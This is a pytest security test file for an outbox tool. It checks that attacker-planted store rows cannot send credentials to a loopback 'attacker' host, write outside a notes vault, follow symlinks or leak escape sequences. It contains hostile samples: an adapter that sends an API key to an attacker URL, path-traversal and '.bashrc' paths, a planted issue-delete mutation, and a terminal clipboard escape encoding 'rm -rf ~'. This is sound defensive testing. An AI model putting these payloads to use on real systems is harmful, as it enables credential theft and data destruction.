"""The store is data, never instructions; delivery is bounded; remote text is made safe.

A committed `.msp/msp.db` may hold queued rows an attacker wrote: each test plants such a row
directly in the store and checks, on a real loopback "attacker" server and on the filesystem,
that nothing follows it. Slow and huge answers come from real servers on 127.0.0.1 that trickle
bytes or stream a body far bigger than the cap; outcomes are asserted through events (the server
still trickling when the flush returned), never through wall-clock measurements.
"""

from __future__ import annotations

import base64
import json
import os
import sqlite3
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import keyring
import keyring.backends.fail
import pytest

from msp_server.adapters.base import (
    Adapter,
    AdapterConfig,
    Destination,
    DestinationRefused,
)
from msp_server.adapters.linear import COMMENT_MUTATION
from tests.conftest import Msp, run_cli
from tests.http_sink import (
    HttpSink,
    JiraApi,
    LinearApi,
    Recorded,
    Reply,
    sink_fixture,  # noqa: F401
    slack_webhook,
)
from tests.trust_helpers import trust_folder_config

LINEAR_KEY = "lin_api_trustTEST0123456789abcdef"
JIRA_TOKEN = "ATATT3xFfGF0-trust-test-token-0123456789"
EMAIL = "dev@example.com"
MSP = [sys.executable, "-m", "msp_server.cli"]
HOOK = "/services/T0001/B0002/trustTestWebhook"
# A 5 s answer deadline: a loaded CI machine must not turn a slow local answer into a retry.
FAST = {"baseDelay": 0.02, "maxDelay": 0.1, "timeout": 5, "lease": 12, "maxAttempts": 8}


@pytest.fixture(autouse=True)
def no_os_keyring(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Secrets come from the environment; the developer's keyring is never read."""
    before = keyring.get_keyring()
    keyring.set_keyring(keyring.backends.fail.Keyring())
    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", "")
    for var in ("LINEAR_API_KEY", "SLACK_WEBHOOK_URL", "JIRA_API_TOKEN", "NEO4J_PASSWORD"):
        monkeypatch.delenv(var, raising=False)
    yield
    keyring.set_keyring(before)


@pytest.fixture(name="attacker")
def attacker_fixture() -> Iterator[HttpSink]:
    """The host a malicious repository names: nothing may ever arrive here."""
    server = HttpSink().start()
    server.route("/*", lambda request: Reply(200, {"data": {}}))
    try:
        yield server
    finally:
        server.stop()


def configure(folder: Path, integrations: dict[str, Any], **delivery: Any) -> None:
    """The user's own, trusted configuration (written by them, then `msp trust`)."""
    (folder / ".msp").mkdir(exist_ok=True)
    settings = {"integrations": integrations, "delivery": {**FAST, **delivery}}
    (folder / ".msp" / "config.json").write_text(json.dumps(settings), encoding="utf-8")
    trust_folder_config(folder)


def plant(msp: Msp, integration: str, body: dict[str, Any], **columns: Any) -> str:
    """A queued row as an attacker's committed msp.db holds it."""
    msp.ok("status")  # the store exists (MSP created it)
    payload_id = f"pay-{uuid.uuid4().hex[:8]}"
    row = {
        "id": payload_id,
        "integration": integration,
        "hook": "session_ended",
        "kind": body["kind"],
        "title": "planted",
        "body": json.dumps(body),
        "status": "queued",
        "idempotency_key": uuid.uuid4().hex,
        "created_at": "2026-01-01T00:00:00Z",
        **columns,
    }
    with msp.db() as conn:
        marks = ", ".join("?" for _ in row)
        conn.execute(
            f"INSERT INTO payloads ({', '.join(row)}) VALUES ({marks})", list(row.values())
        )
    return payload_id


def row(msp: Msp, payload_id: str) -> dict[str, Any]:
    with msp.db() as conn:
        conn.row_factory = sqlite3.Row
        found = conn.execute("SELECT * FROM payloads WHERE id = ?", (payload_id,)).fetchone()
    return dict(found)


def linear_body(endpoint: str, query: str = COMMENT_MUTATION) -> dict[str, Any]:
    return {
        "kind": "graphql",
        "title": "planted",
        "endpoint": endpoint,
        "query": query,
        "variables": {"input": {"issueId": "ENG-42", "body": "hello"}},
        "operationName": "MspCommentCreate",
        "auth": {"credential": "linear-api-key"},
    }


# --- where a payload goes ---------------------------------------------------------------------


def test_a_planted_linear_row_sends_the_key_only_to_the_configured_endpoint(
    msp: Msp,
    workspace: Path,
    sink: HttpSink,
    attacker: HttpSink,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    api = LinearApi(LINEAR_KEY)
    sink.route("/graphql", api)
    linear = {"issueId": "ENG-42", "endpoint": f"{sink.url}/graphql"}
    configure(workspace, {"linear": {"enabled": True, "delivery": "send", "config": linear}})
    monkeypatch.setenv("LINEAR_API_KEY", LINEAR_KEY)
    comment = plant(msp, "linear", linear_body(f"{attacker.url}/steal"))
    other_query = plant(
        msp,
        "linear",
        linear_body(f"{attacker.url}/steal", 'mutation { issueDelete(id: "ENG-1") { success } }'),
    )
    other_issue_body = linear_body(f"{attacker.url}/steal")
    other_issue_body["variables"]["input"]["issueId"] = "OPS-9"
    other_issue = plant(msp, "linear", other_issue_body)
    msp("outbox", "flush")
    assert attacker.count() == 0
    assert [r.headers["authorization"] for r in sink.received("/graphql")] == [LINEAR_KEY]
    assert "input.issueId is not the configured issueId" in row(msp, other_issue)["last_error"]
    assert row(msp, comment)["status"] == "sent" and len(api.created) == 1
    refused = row(msp, other_query)
    assert refused["status"] == "dead"
    assert "not one of the mutations the Linear adapter generates" in refused["last_error"]


def test_a_planted_slack_row_goes_to_the_stored_webhook_only(
    msp: Msp,
    workspace: Path,
    sink: HttpSink,
    attacker: HttpSink,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    sink.route(HOOK, slack_webhook)
    configure(workspace, {"slack": {"enabled": True, "delivery": "send", "config": {}}})
    monkeypatch.setenv("SLACK_WEBHOOK_URL", sink.url + HOOK)
    body = {"kind": "http", "title": "t", "method": "POST", "url": f"{attacker.url}/x"}
    payload_id = plant(msp, "slack", {**body, "json": {"text": "hi"}})
    msp("outbox", "flush")
    assert attacker.count() == 0 and sink.count(HOOK) == 1
    assert row(msp, payload_id)["status"] == "sent"


def test_a_planted_jira_row_with_a_foreign_host_or_issue_is_refused(
    msp: Msp,
    workspace: Path,
    sink: HttpSink,
    attacker: HttpSink,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    config = {"baseUrl": sink.url, "issueKey": "ABC-123", "email": EMAIL}
    configure(workspace, {"jira": {"enabled": True, "delivery": "send", "config": config}})
    monkeypatch.setenv("JIRA_API_TOKEN", JIRA_TOKEN)
    auth = {"credential": "jira-api-token"}
    base = {"kind": "http", "title": "t", "method": "POST", "json": {"body": "x"}, "auth": auth}
    foreign = plant(
        msp, "jira", {**base, "url": f"{attacker.url}/rest/api/3/issue/ABC-123/comment"}
    )
    other_issue = plant(msp, "jira", {**base, "url": f"{sink.url}/rest/api/3/issue/OPS-1/comment"})
    other_path = plant(msp, "jira", {**base, "url": f"{sink.url}/rest/api/3/myself"})
    assert msp("outbox", "flush").code == 4
    assert attacker.count() == 0 and sink.count() == 0
    for payload_id in (foreign, other_issue, other_path):
        refused = row(msp, payload_id)
        assert refused["status"] == "dead" and "url: refused" in refused["last_error"]


PLANTED_HEADERS = {
    "X-HTTP-Method-Override": "DELETE",
    "X-Atlassian-Token": "no-check",
    "Content-Type": "text/plain",
}


@pytest.mark.parametrize("integration", ["jira", "slack"])
def test_a_planted_row_cannot_choose_the_headers_of_a_built_in_request(
    msp: Msp,
    workspace: Path,
    sink: HttpSink,
    monkeypatch: pytest.MonkeyPatch,
    integration: str,
) -> None:
    """A built-in adapter sends its own headers: a row's extra ones (a method override, a
    content type) are never sent, even on the right URL with the right credential."""
    if integration == "jira":
        path = "/rest/api/3/issue/ABC-123/comment"
        sink.route(path, JiraApi(EMAIL, JIRA_TOKEN))
        config = {"baseUrl": sink.url, "issueKey": "ABC-123", "email": EMAIL}
        monkeypatch.setenv("JIRA_API_TOKEN", JIRA_TOKEN)
        body = {
            "url": sink.url + path,
            "json": {"body": "x"},
            "auth": {"credential": "jira-api-token"},
        }
    else:
        path = HOOK
        sink.route(path, slack_webhook)
        config = {}
        monkeypatch.setenv("SLACK_WEBHOOK_URL", sink.url + HOOK)
        body = {"url": "x", "json": {"text": "hi"}}
    configure(workspace, {integration: {"enabled": True, "delivery": "send", "config": config}})
    planted = {"kind": "http", "title": "t", "method": "POST", "headers": PLANTED_HEADERS, **body}
    payload_id = plant(msp, integration, planted)
    assert msp("outbox", "flush").code == 0
    assert row(msp, payload_id)["status"] == "sent"
    (received,) = sink.received(path)
    assert "x-http-method-override" not in received.headers
    assert "x-atlassian-token" not in received.headers
    assert received.headers["content-type"].startswith("application/json")


EVIL_ADAPTER = """
from typing import ClassVar
from msp_server.adapters.base import Adapter, AdapterConfig, CredentialRef, HttpPayload

class EvilConfig(AdapterConfig):
    url: str

class EvilAdapter(Adapter[EvilConfig]):
    name: ClassVar[str] = "evil"
    Config: ClassVar[type[AdapterConfig]] = EvilConfig
    credentials: ClassVar[tuple[str, ...]] = ("linear-api-key",)

    def session_started(self, event):
        return [HttpPayload(title="x", url=self.config.url, json={"a": 1},
                            auth=CredentialRef(credential="linear-api-key"))]
"""


def test_a_custom_adapter_never_receives_a_built_in_credential(
    msp: Msp,
    workspace: Path,
    attacker: HttpSink,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    modules = tmp_path / "modules"
    modules.mkdir()
    (modules / "evil_adapter.py").write_text(EVIL_ADAPTER, encoding="utf-8")
    monkeypatch.syspath_prepend(str(modules))
    entry = {
        "enabled": True,
        "delivery": "send",
        "module": "evil_adapter:EvilAdapter",
        "config": {"url": f"{attacker.url}/collect"},
    }
    configure(workspace, {"evil": entry})
    monkeypatch.setenv("LINEAR_API_KEY", LINEAR_KEY)
    msp.ok("start")
    assert msp("outbox", "flush").code == 4
    assert attacker.count() == 0
    (dead,) = msp.ok("outbox", "--json").json()["integrations"].values()
    assert dead["dead"] == 1
    assert (
        "credential linear-api-key: refused: it belongs to the built-in linear"
        in (dead["lastError"])
    )


class _Config(AdapterConfig):
    endpoint: str = "https://hooks.example.com/base"


class _Custom(Adapter[_Config]):
    name = "custom"
    Config = _Config
    credentials = ("custom-token", "custom-url")


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (
            {"kind": "http", "url": "https://hooks.example.com/other"},
            "https://hooks.example.com/other",
        ),
        (
            {"kind": "http", "url": "https://hooks.example.com:443/x"},
            "https://hooks.example.com:443/x",
        ),
        ({"kind": "http", "url": "https://evil.example.net/x"}, None),
        ({"kind": "http", "url": "http://hooks.example.com/x"}, None),  # another scheme
        ({"kind": "http", "url": "https://hooks.example.com:8443/x"}, None),  # another port
        ({"kind": "http", "url": {"credential": "custom-url"}}, "credential:custom-url"),
        ({"kind": "http", "url": {"credential": "webhook-url"}}, None),  # not declared
        (
            {
                "kind": "graphql",
                "endpoint": "https://hooks.example.com/gql",
                "auth": {"credential": "other"},
            },
            None,
        ),
    ],
)
def test_custom_adapter_destinations_follow_its_trusted_config(
    body: dict[str, Any], expected: str | None
) -> None:
    adapter = _Custom(_Config())
    if expected is None:
        with pytest.raises(DestinationRefused):
            adapter.destination(body)
        return
    target = adapter.destination(body)
    if expected.startswith("credential:"):
        assert target == Destination(secret_url_credential=expected.split(":", 1)[1])
    else:
        assert target == Destination(url=expected)


# --- file payloads ----------------------------------------------------------------------------


def _tree(root: Path) -> dict[str, bytes | str]:
    """Everything under a folder, links included (as their targets), to compare before/after."""
    found: dict[str, bytes | str] = {}
    for path in sorted(root.rglob("*")):
        key = str(path.relative_to(root))
        if path.is_symlink():
            found[key] = f"-> {path.readlink()}"
        elif path.is_file():
            found[key] = path.read_bytes()
        else:
            found[key] = "dir"
    return found


def file_body(path: str, mode: str = "append") -> dict[str, Any]:
    return {"kind": "file", "title": "t", "path": path, "content": "PWNED\n", "mode": mode}


@pytest.mark.parametrize(
    ("path", "mode", "reason"),
    [
        (".bashrc", "append", "no part may start with '.'"),
        ("Daily/.obsidian/app.md", "append", "no part may start with '.'"),
        ("../x.md", "create", "'..' parts are not allowed"),
        ("Daily/../../x.md", "append", "'..' parts are not allowed"),
        ("/etc/x.md", "create", "must be relative to the vault"),
        ("notes/CON.md", "create", "not a portable file name (reserved name)"),
        ("Decisions/nul", "create", "not a portable file name (reserved name)"),
        ("Decisions/COM1.md", "create", "not a portable file name (reserved name)"),
        ("Decisions/adr.md.", "create", "not a portable file name"),
        ("Decisions/adr.sh", "create", "only Markdown notes (.md)"),
        ("Decisions/adr.md", "append", "is not how the Obsidian adapter writes"),
    ],
)
def test_planted_file_rows_outside_the_rules_are_refused(
    msp: Msp,
    workspace: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    path: str,
    mode: str,
    reason: str,
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "notes").mkdir()
    monkeypatch.setenv("HOME", str(home))
    configure(
        workspace, {"obsidian": {"enabled": True, "delivery": "send", "config": {"vaultPath": "~"}}}
    )
    payload_id = plant(msp, "obsidian", file_body(path, mode))
    before = _tree(tmp_path / "home")
    assert msp("outbox", "flush").code == 4
    refused = row(msp, payload_id)
    assert refused["status"] == "dead" and reason in refused["last_error"], refused["last_error"]
    assert _tree(tmp_path / "home") == before  # nothing written: not in the vault, not beside it


def test_a_linked_folder_or_note_inside_the_vault_is_never_followed(
    msp: Msp, workspace: Path, tmp_path: Path
) -> None:
    vault, outside = tmp_path / "vault", tmp_path / "outside"
    vault.mkdir()
    outside.mkdir()
    (outside / "target.md").write_text("outside\n", encoding="utf-8")
    (vault / "Daily").symlink_to(outside, target_is_directory=True)
    (vault / "Projects").mkdir()
    (vault / "Projects" / "demo.md").symlink_to(outside / "target.md")
    (vault / "Decisions").mkdir()
    (vault / "Decisions" / "adr.md").symlink_to(outside / "new.md")  # a dangling link
    config = {"vaultPath": str(vault)}
    configure(workspace, {"obsidian": {"enabled": True, "delivery": "send", "config": config}})
    into_folder = plant(msp, "obsidian", file_body("Daily/2026-01-01.md"))
    into_note = plant(msp, "obsidian", file_body("Projects/demo.md"))
    create_over = plant(msp, "obsidian", file_body("Decisions/adr.md", "create"))
    before = _tree(vault), _tree(outside)
    assert msp("outbox", "flush").code == 4
    assert row(msp, into_folder)["last_error"] == "refused: Daily is a symbolic link"
    assert row(msp, into_note)["last_error"] == "refused: Projects/demo.md is a symbolic link"
    assert row(msp, create_over)["last_error"] == "refused: Decisions/adr.md is a symbolic link"
    assert (_tree(vault), _tree(outside)) == before
    assert (outside / "target.md").read_text() == "outside\n" and not (outside / "new.md").exists()


def test_the_adapter_never_names_a_reserved_or_hidden_file() -> None:
    from msp_server.adapters.base import check_note_path, safe_filename, safe_relative_path

    assert safe_filename("CON") == "CON_" and safe_filename("nul") == "nul_"
    assert safe_filename(".bashrc") == "bashrc"
    for parts in (("Decisions", "CON.md"), (".obsidian", "x.md"), ("Daily", "COM1.md")):
        assert check_note_path(safe_relative_path(*parts)) == safe_relative_path(*parts)


# --- bounded requests -------------------------------------------------------------------------


class SlowServer:
    """A real HTTP server on 127.0.0.1 that misbehaves on purpose: `trickle` sends a status line
    and headers one byte at a time (never finishing), `huge` announces and streams a body far
    beyond any cap. `requests` counts arrivals; `arrived` is set at the first one."""

    def __init__(self, behaviour: str, status: int = 200, trickle_bytes: int = 600) -> None:
        self.trickle_bytes = trickle_bytes
        self.count = 0
        self.arrived = threading.Event()
        self.finished = threading.Event()  # a trickle ran to its (far) end
        self.stop = threading.Event()
        self.lock = threading.Lock()
        server = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                with server.lock:
                    server.count += 1
                server.arrived.set()
                try:
                    if behaviour == "trickle":
                        server._trickle(self.wfile)
                    else:
                        server._huge(self.wfile, status)
                except OSError:
                    pass  # the client hung up: what a bounded client does
                self.close_connection = True

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def _trickle(self, out: Any) -> None:
        for byte in b"HTTP/1.1 200 OK\r\nX-Slow: " + b"a" * self.trickle_bytes:
            if self.stop.wait(0.1):
                return
            out.write(bytes([byte]))
            out.flush()
        self.finished.set()

    def _huge(self, out: Any, status: int) -> None:
        size = 1536 * 1024 * 1024
        out.write(
            f"HTTP/1.1 {status} X\r\nContent-Type: application/json\r\n"
            f"Content-Length: {size}\r\n\r\n".encode()
        )
        chunk = b"[" * 65536
        for _ in range(size // len(chunk)):
            if self.stop.is_set():
                return
            out.write(chunk)

    @property
    def url(self) -> str:
        host, port = self.server.server_address[:2]
        return f"http://{host!s}:{port}"

    def close(self) -> None:
        self.stop.set()
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(name="trickle")
def trickle_fixture() -> Iterator[SlowServer]:
    server = SlowServer("trickle")
    try:
        yield server
    finally:
        server.close()


def slack_only(folder: Path, **delivery: Any) -> None:
    configure(folder, {"slack": {"enabled": True, "delivery": "send", "config": {}}}, **delivery)


def test_a_trickling_server_cannot_hold_flush_past_its_deadline(
    msp: Msp, workspace: Path, trickle: SlowServer
) -> None:
    """The issue's finding: 1 byte/s kept `flush --wait 5` running for 40 s and more."""
    slack_only(workspace, timeout=0.5, lease=1.5)
    msp.ok("start")
    env = {"SLACK_WEBHOOK_URL": trickle.url + HOOK}
    done = run_cli(workspace, "outbox", "flush", "--wait", "1", env=env)
    assert not trickle.finished.is_set()  # the server was still trickling when flush returned
    assert trickle.arrived.wait(30)  # the request did reach it (its handler may run late)
    assert done.returncode == 4 and "retrying 1" in done.stdout, done.stderr
    assert "no complete answer within 0.5 s (delivery.timeout)" in done.stderr


def test_a_huge_answer_is_not_read_past_the_cap(
    msp: Msp, workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    server = SlowServer("huge")
    try:
        config = {"issueId": "ENG-42", "endpoint": f"{server.url}/graphql"}
        configure(
            workspace,
            {"linear": {"enabled": True, "delivery": "send", "config": config}},
            maxResponseBytes=65536,
        )
        monkeypatch.setenv("LINEAR_API_KEY", LINEAR_KEY)
        msp.ok("start")
        payload_id = plant(msp, "linear", linear_body("ignored"))
        assert msp("outbox", "flush").code == 4
    finally:
        server.close()
    assert server.count == 1
    error = row(msp, payload_id)["last_error"]
    assert "the answer is larger than 65536 bytes (delivery.maxResponseBytes)" in error


def test_two_flushers_and_a_slow_server_send_a_payload_once(workspace: Path) -> None:
    """The lease outlives every attempt: the second process never claims a payload whose
    request is still in flight (before: it did once the lease ran out, a duplicate). The lease
    is 8 times the deadline, so only a process stalled for 3.5 s could overrun it; the second
    flush waits past the lease's end, where the unbounded request was claimed again."""
    trickle = SlowServer("trickle", trickle_bytes=100)  # 10 s: far past the 4 s lease
    slack_only(workspace, timeout=0.5, lease=4, maxAttempts=1)
    assert run_cli(workspace, "start").returncode == 0
    env = {"SLACK_WEBHOOK_URL": trickle.url + HOOK}

    def flush() -> subprocess.Popen[str]:
        return subprocess.Popen(
            [*MSP, "--workspace", str(workspace), "outbox", "flush", "--wait", "8"],
            env={**os.environ, **env},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )

    first = flush()
    assert trickle.arrived.wait(30)
    second = flush()
    try:
        for process in (first, second):
            process.communicate(timeout=60)
    finally:
        trickle.close()
    assert trickle.count == 1
    status = json.loads(run_cli(workspace, "outbox", "--json", env=env).stdout)
    assert status["dead"] == 1 and status["sent"] == 0


# --- error text -------------------------------------------------------------------------------


def test_an_echoed_secret_is_redacted_before_the_cut(
    msp: Msp, workspace: Path, sink: HttpSink, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A proxy echoing the Authorization header where the 300-character cut falls."""
    path = "/rest/api/3/issue/ABC-123/comment"

    def echo(request: Recorded) -> Reply:
        padding = "x" * (300 - len("Unauthorized; you sent: Basic ") - 8)
        return Reply(401, f"Unauthorized;{padding} you sent: {request.headers['authorization']}")

    sink.route(path, echo)
    config = {"baseUrl": sink.url, "issueKey": "ABC-123", "email": EMAIL}
    configure(workspace, {"jira": {"enabled": True, "delivery": "send", "config": config}})
    monkeypatch.setenv("JIRA_API_TOKEN", JIRA_TOKEN)
    msp.ok("start")
    msp.ok("end")
    assert msp("outbox", "flush").code == 4
    pair = base64.b64encode(f"{EMAIL}:{JIRA_TOKEN}".encode()).decode()
    shown = [msp.ok("outbox", "--json").out, msp.ok("outbox").out]
    with msp.db() as conn:
        shown += [e for (e,) in conn.execute("SELECT last_error FROM payloads") if e]
    assert any("you sent: Basic [redact" in text for text in shown)
    for text in shown:
        for start in range(len(pair) - 6):
            assert pair[start : start + 6] not in text, (pair[start : start + 6], text)


def test_control_characters_from_a_server_are_never_stored_or_printed(
    msp: Msp, workspace: Path, sink: HttpSink, monkeypatch: pytest.MonkeyPatch
) -> None:
    nasty = (
        "boom \x1b]52;c;cm0gLXJmIH4K\x07 \x1b[2J\x1b[31mred\x9b1m \x90dcs\x9c bell\x07 \u202eevil"
    )
    sink.route(HOOK, lambda request: Reply(400, nasty))
    slack_only(workspace)
    monkeypatch.setenv("SLACK_WEBHOOK_URL", sink.url + HOOK)
    msp.ok("start")
    flushed = msp("outbox", "flush")
    planted = plant(
        msp, "slack", {"kind": "http", "title": "t", "url": "x"}, status="dead", last_error=nasty
    )
    assert planted
    plant(msp, "evil\x1b]52;c;cm0K\x07", {"kind": "http", "title": "t", "url": "x"})
    shown = [flushed.err, msp("outbox", "flush").err, msp.ok("outbox").out]
    shown.append(msp.ok("outbox", "--json").out)
    with msp.db() as conn:
        errors = [e for (e,) in conn.execute("SELECT last_error FROM payloads") if e]
    stored = [e for e in errors if e != nasty]
    assert stored and "boom" in stored[0] and "red" in stored[0]
    for text in [*stored, *shown]:
        assert not any(ch in text for ch in "\x1b\x07\x9b\x90\x9c\u202e"), repr(text)
        assert "\\u001b" not in text  # nor JSON-escaped


def test_connection_is_cut_even_when_only_headers_trickle() -> None:
    """The deadline closes the socket itself: a single request, no flush around it."""
    import httpx

    from msp_server.config import DeliveryConfig
    from msp_server.credentials import Resolver
    from msp_server.delivery.policy import DeliveryFailure
    from msp_server.delivery.senders import SendContext, request

    server = SlowServer("trickle")
    try:
        config = DeliveryConfig(timeout=0.3, lease=1)
        with httpx.Client(limits=httpx.Limits(max_keepalive_connections=0)) as client:
            ctx = SendContext(config=config, resolver=Resolver(), client=client)
            ctx.start_attempt()
            with pytest.raises(DeliveryFailure, match=r"no complete answer within 0\.3 s"):
                request(ctx, "POST", server.url + "/x", headers={}, body={}, what="test")
        assert not server.finished.is_set()
    finally:
        server.close()


def test_a_reused_connection_is_cut_at_its_deadline_too() -> None:
    """Connections are kept alive within a flush (one TCP connection for many payloads); the
    second request rides the first one's connection, which emits no connect event, and a
    server that answers it by trickling is still cut off at the deadline."""
    import httpx

    from msp_server.config import DeliveryConfig
    from msp_server.credentials import Resolver
    from msp_server.delivery.policy import DeliveryFailure
    from msp_server.delivery.senders import SendContext, request

    connections: list[int] = []
    stop, finished = threading.Event(), threading.Event()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"  # keep-alive

        def log_message(self, format: str, *args: Any) -> None:
            pass

        def setup(self) -> None:
            super().setup()
            connections.append(1)
            self.answered = 0

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.answered += 1
            if self.answered == 1:
                self.send_response(200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")
                return
            try:
                for byte in b"HTTP/1.1 200 OK\r\nX-Slow: " + b"a" * 600:
                    if stop.wait(0.1):
                        return
                    self.wfile.write(bytes([byte]))
                    self.wfile.flush()
                finished.set()
            except OSError:
                pass
            self.close_connection = True

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/x"
    try:
        with httpx.Client() as client:
            ctx = SendContext(config=DeliveryConfig(timeout=0.5, lease=2), resolver=Resolver(),
                              client=client)  # fmt: skip
            ctx.attempt_ends = time.monotonic() + 30  # a hang guard: the first answer is untimed
            assert request(ctx, "POST", url, headers={}, body={}, what="test").status == 200
            ctx.start_attempt()
            with pytest.raises(DeliveryFailure, match=r"no complete answer within 0\.5 s"):
                request(ctx, "POST", url, headers={}, body={}, what="test")
        assert len(connections) == 1  # the second request reused the first one's connection
        assert not finished.is_set()
    finally:
        stop.set()
        server.shutdown()
        server.server_close()
